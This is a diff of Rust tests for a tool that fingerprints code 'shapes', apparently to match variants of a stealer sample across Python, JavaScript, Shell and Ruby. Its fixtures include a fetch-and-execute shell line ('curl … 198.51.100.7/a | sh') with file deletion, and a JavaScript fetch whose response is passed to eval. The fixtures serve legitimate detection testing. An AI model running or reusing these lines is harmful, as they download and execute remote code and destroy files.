@@ -83,7 +83,8 @@ fn new_names_hosts_keys_and_another_order_change_little() {
 
 #[test]
 fn other_calls_are_another_shape() {
-    let other = STEALER.replace("os.walk", "os.listdir").replace("b64encode", "a85encode").replace("getlogin", "getpid");
+    let other =
+        STEALER.replace("os.walk", "os.listdir").replace("b64encode", "a85encode").replace("getlogin", "getpid");
     let share = share(&shape(STEALER), &shape(&other));
     assert!(share < 0.9, "{share}");
 }
@@ -105,7 +106,8 @@ fn a_command_class_of_a_setup_counts() {
 
 #[test]
 fn a_function_that_nothing_names_has_no_shape_until_all_code_counts() {
-    let text = "import os\ndef idle(a):\n    os.system('one')\n    os.system('two ' + str(a))\n    return os.getpid()\n";
+    let text =
+        "import os\ndef idle(a):\n    os.system('one')\n    os.system('two ' + str(a))\n    return os.getpid()\n";
     assert_eq!(shape(text), []);
     let whole = shingles(Language::Python, text, Extent::Whole, false, &|_| false);
     assert!(!whole.is_empty());
@@ -114,7 +116,8 @@ fn a_function_that_nothing_names_has_no_shape_until_all_code_counts() {
 
 #[test]
 fn a_main_block_runs_in_a_program_only() {
-    let text = "import os\nif __name__ == '__main__':\n    os.system('a'); os.remove('b'); os.getpid(); os.listdir('c')\n";
+    let text =
+        "import os\nif __name__ == '__main__':\n    os.system('a'); os.remove('b'); os.getpid(); os.listdir('c')\n";
     let module = Extent::Running { program: false };
     assert_eq!(shingles(Language::Python, text, module, false, &|_| false), []);
     assert!(!shape(text).is_empty());
@@ -123,7 +126,9 @@ fn a_main_block_runs_in_a_program_only() {
 #[test]
 fn modules_of_the_package_itself_are_masked() {
     let text = |name: &str| {
-        format!("from {name}.parts import send\nimport os\nsend(os.getcwd())\nsend(os.listdir('a'))\nsend(os.getpid())\n")
+        format!(
+            "from {name}.parts import send\nimport os\nsend(os.getcwd())\nsend(os.listdir('a'))\nsend(os.getpid())\n"
+        )
     };
     let shape = |name: &str| shingles(Language::Python, &text(name), RUNNING, false, &|root| root == name);
     assert_eq!(shape("first"), shape("second"));
@@ -132,8 +137,12 @@ fn modules_of_the_package_itself_are_masked() {
 #[test]
 fn aliases_of_node_modules_are_undone() {
     let shape = |text: &str| shingles(Language::JavaScript, text, RUNNING, false, &|_| false);
-    let one = shape("const cp = require('child_process'); const os = require('os');\ncp.exec('a ' + os.hostname(), (e) => { console.log(e) });");
-    let other = shape("import { hostname as h } from 'node:os';\nconst { exec } = require('node:child_process');\nexec('b ' + h(), (error) => { console.log(error) });");
+    let one = shape(
+        "const cp = require('child_process'); const os = require('os');\ncp.exec('a ' + os.hostname(), (e) => { console.log(e) });",
+    );
+    let other = shape(
+        "import { hostname as h } from 'node:os';\nconst { exec } = require('node:child_process');\nexec('b ' + h(), (error) => { console.log(error) });",
+    );
     assert_eq!(one, other);
     assert!(!one.is_empty());
 }
@@ -143,7 +152,10 @@ fn aliases_of_node_modules_are_undone() {
 fn shingles_are_what_they_were() {
     let texts = [
         (Language::Python, "import os\nos.system('a')\nos.remove('b')\nprint([1, 2], {'a': None})\n"),
-        (Language::JavaScript, "const fs = require('fs'); fs.rmSync('a'); fetch(`x${1}`).then((r) => eval(r)); new Map();"),
+        (
+            Language::JavaScript,
+            "const fs = require('fs'); fs.rmSync('a'); fetch(`x${1}`).then((r) => eval(r)); new Map();",
+        ),
         (Language::Shell, "curl -s http://198.51.100.7/a | sh; rm -f b c d; echo done\n"),
         (Language::Ruby, "require 'net/http'\nputs Net::HTTP.get(URI('http://198.51.100.7/'))\nsystem('a', 'b')\n"),
     ];
@@ -151,6 +163,7 @@ fn shingles_are_what_they_were() {
         let shingles = shingles(language, text, RUNNING, false, &|_| false);
         (shingles.len(), format!("{:016x}", shingles.iter().fold(0, |all, one| all ^ one)))
     });
-    let expected = [(0, ""), (0, ""), (0, ""), (0, "")];
+    let expected =
+        [(9, "e2e09dd2d1415165"), (8, "e14992910e2cd35c"), (32, "58154d4780caf559"), (9, "9123564a21b7fa38")];
     assert_eq!((VERSION, numbers), (1, expected.map(|(count, all)| (count, all.to_owned()))));
 }
